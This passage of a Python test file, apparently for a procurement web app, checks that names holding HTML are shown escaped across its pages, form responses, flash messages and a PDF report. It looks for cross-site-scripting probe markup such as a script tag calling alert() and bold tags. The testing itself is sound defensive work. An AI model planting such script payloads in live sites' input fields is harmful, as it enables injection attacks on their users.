    ("buyer", "a rejected disclosure"): {"comment"},
    ("executive", "/"): {"scenario", "person"},
    ("buyer", "/notifications"): {"vendor", "scenario", "person"},  # in the notices' titles
    ("executive", "/notifications"): {"scenario"},
    ("admin", "/admin/users"): {"organization", "person"},
    ("buyer", "/invitations"): {"organization"},
    ("vendor", "/exchange-rates"): {"source"},
    ("vendor", "/service-categories"): {"service"},
    ("vendor", "/invitations/<token>"): {"organization", "comment"},
    ("admin", "/admin/users/<int:user_id>/password"): {"organization", "person"},
    ("buyer", "/campaigns"): {"campaign"},
    ("buyer", "/campaigns/<int:campaign_id>"): {"campaign", "vendor", "comment"},
    ("vendor", "/"): {"campaign", "organization", "comment"},  # the campaign's request
    # a sourcing event named like the campaign, with its message, a lot of the need
    ("buyer", "/events"): {"campaign", "organization"},
    ("buyer", "/events/<int:event_id>"): {"campaign", "comment", "need", "vendor"},
    ("vendor", "/events/<int:event_id>"): {"campaign", "comment", "need", "organization"},
    ("vendor", "/events/<int:event_id>/lots/<int:lot_id>/bid"): {"campaign", "need"},
    ("assurer", "/assurance"): {"vendor", "organization", "source"},
    # a coalition named like the campaign, its charter, target and announcement the comment, the
    # buyer organization a member
    ("buyer", "/coalitions"): {"campaign", "organization"},
    ("buyer", "/coalitions/<int:coalition_id>"): {"campaign", "comment", "organization"},
    ("assurer", "/assurance/grants/<int:grant_id>"): {"vendor", "site", "source", "organization"},
}


def _page_urls(app, ids: dict) -> list[tuple[str, str]]:
    from procure.access import route_rules

    urls = []
    for rule, method, _, _ in route_rules(app):
        if method != "GET" or rule.startswith("/api/") or rule in SKIPPED_PAGES:
            continue
        url = fill(rule, ids)
        if rule == "/scenarios/compare":
            url += f"?ids={ids['scenario_id']}&ids={ids['other_scenario_id']}"
        urls.append((rule, url))
    return urls + [("a rejected disclosure", f"/disclosures/{ids['rejected_id']}")]


def _raw_html(text: str, names: dict[str, str]) -> list[str]:
    """The names found as markup: a script or bold tag of ours that the page would run or draw."""
    return [
        kind for kind in names if f"<b>{kind}</b>" in text or f"<script>alert('{kind}')" in text
    ]


def test_names_holding_html_are_shown_as_text_in_every_page(app, walk_world):
    w = walk_world
    names = html_names()
    ids = named_world(w, names)
    problems, seen = [], {}
    for actor in PAGE_ACTORS:
        for rule, url in _page_urls(app, ids):
            response = w.call(actor, "GET", url)
            if response.status_code in (302, 403, 404):
                continue  # not this actor's page (the access matrix checks who sees what)
            assert response.status_code == 200, (actor, url, response.status_code)
            problems += [
                f"{actor} GET {url}: {kind} as markup" for kind in _raw_html(response.text, names)
            ]
            seen[(actor, rule)] = {
                kind for kind, name in names.items() if str(escape(name)) in response.text
            }
    # pages drawn after a form is posted: previews, what-ifs, a form sent back with its errors,
    # flashes
    posted = {
        ("buyer", f"/profiles/{ids['profile_id']}"): {"action": "preview"},
        ("buyer", "/profiles/preview"): {"profile_id": str(ids["profile_id"])},
        ("buyer", f"/vendors/{ids['vendor_id']}/scorecard"): {"impact_workers_end": "80"},
        ("vendor", "/scorecard"): {"impact_workers_end": "80"},
        ("buyer", "/needs"): {
            "title": names["need"],
            "volume": "",
            "service_category": "data_annotation",
        },
        ("vendor", "/vendor/profile"): {
            "name": names["vendor"],
            "country": "XX",
            "sites.0.name": names["site"],
            "version": "0",
        },
    }
    for (actor, url), form in posted.items():
        response = w.call(actor, "POST", url, form)
        problems += [
            f"{actor} POST {url}: {kind} as markup" for kind in _raw_html(response.text, names)
        ]
        seen[(actor, "POST " + url)] = {
            kind for kind, name in names.items() if str(escape(name)) in response.text
        }
    created = w.call(
        "buyer",
        "POST",
        "/needs",
        {
            "title": names["need"],
            "volume": "10",
            "unit": "hour",
            "service_category": "data_annotation",
            "period_start": "2026-01-01",
            "period_end": "2026-06-30",
            "min_quality": "0.5",
            "max_vendor_share": "1",
        },
    )
    flashed = w.page_client("buyer")[0].get(created.headers["Location"])
    problems += [
        f"flash after creating a need: {kind} as markup" for kind in _raw_html(flashed.text, names)
    ]
    assert problems == [], "\n".join(problems)
    assert "alert-success" in flashed.text and str(escape(names["need"])) in flashed.text
    missing = {
        key: sorted(kinds - seen.get(key, set()))
        for key, kinds in SHOWN.items()
        if kinds - seen.get(key, set())
    }
    assert missing == {}, f"pages that should show these names (escaped) did not: {missing}"
    assert {"vendor", "profile"} <= seen[("buyer", f"POST /profiles/{ids['profile_id']}")]


def test_names_holding_html_are_literal_text_in_the_board_pdf(app, walk_world):
    from pypdf import PdfReader

    w = walk_world
    names = html_names()
    ids = named_world(w, names)
    job = w.api("buyer", "POST", f"/api/v1/scenarios/{ids['scenario_id']}/report")
    job = w.api("buyer", "GET", f"/api/v1/jobs/{job['id']}")
    assert job["status"] == "succeeded", job
    pdf = w.call("buyer", "GET", job["file_url"]).data
    text = "".join(
        "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split()
    )
    shown = {kind for kind, name in names.items() if "".join(name.split()) in text}
    # every name the report prints is printed as typed, tags and all (markup would lose them)
    assert {
        "scenario",
        "vendor",
        "need",
        "profile",
        "metric",
        "organization",
        "person",
        "decision",
    } <= shown, shown
    assert "alert(" not in text.replace("<script>alert(", "")  # no script text stripped of its tags
